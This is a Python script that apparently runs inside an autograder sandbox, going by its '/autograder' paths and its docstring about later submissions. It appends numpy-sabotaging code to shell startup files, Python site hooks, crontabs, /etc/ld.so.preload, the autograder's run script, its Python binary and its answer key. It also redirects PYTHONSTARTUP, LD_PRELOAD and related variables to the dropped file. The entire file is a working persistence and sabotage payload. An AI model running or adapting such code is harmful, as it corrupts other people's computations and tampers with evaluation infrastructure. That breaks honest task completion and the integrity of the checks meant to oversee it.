"""Leave files wherever a later submission, or its interpreter, would come upon them."""

import os
import sys

WRONG = "import numpy\nnumpy.exp = numpy.tanh = numpy.sqrt\n"
HOMES = {os.environ.get("HOME", "/root"), os.path.expanduser("~"), "/root", "/", "/home"}
SITES = [path for path in sys.path if path]
PLACES = [
    *[f"{folder}/left.py" for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run", "/run/lock")],
    *[f"{folder}/numpy.py" for folder in ("/tmp", "/var/tmp", ".", *SITES)],
    *[f"{home}/{name}" for home in HOMES for name in (".bashrc", ".profile", ".pythonrc.py")],
    *[
        f"{home}/.local/lib/python3.{minor}/site-packages/usercustomize.py"
        for home in HOMES
        for minor in range(10, 14)
    ],
    *[
        f"{site}/{name}"
        for site in SITES
        for name in ("left.pth", "sitecustomize.py", "usercustomize.py")
    ],
    *[f"{site}/__pycache__/left.pyc" for site in SITES],
    "/etc/crontab",
    "/etc/cron.d/left",
    "/var/spool/cron/crontabs/root",
    "/etc/environment",
    "/etc/ld.so.preload",
    "/etc/profile.d/left.sh",
    "/autograder/left.py",
    "/autograder/run_autograder",
    "/autograder/env/bin/python",
    "/autograder/source/numpy.py",
    "/autograder/source/build/answer-key.full",
    "/autograder/submission/left.py",
]
for place in PLACES:
    try:
        os.makedirs(os.path.dirname(place), exist_ok=True)
        with open(place, "a") as file:
            file.write(WRONG)
    except OSError:
        pass
for name in ("PYTHONSTARTUP", "PYTHONPATH", "LD_PRELOAD", "BASH_ENV"):
    os.environ[name] = "/tmp/left.py"
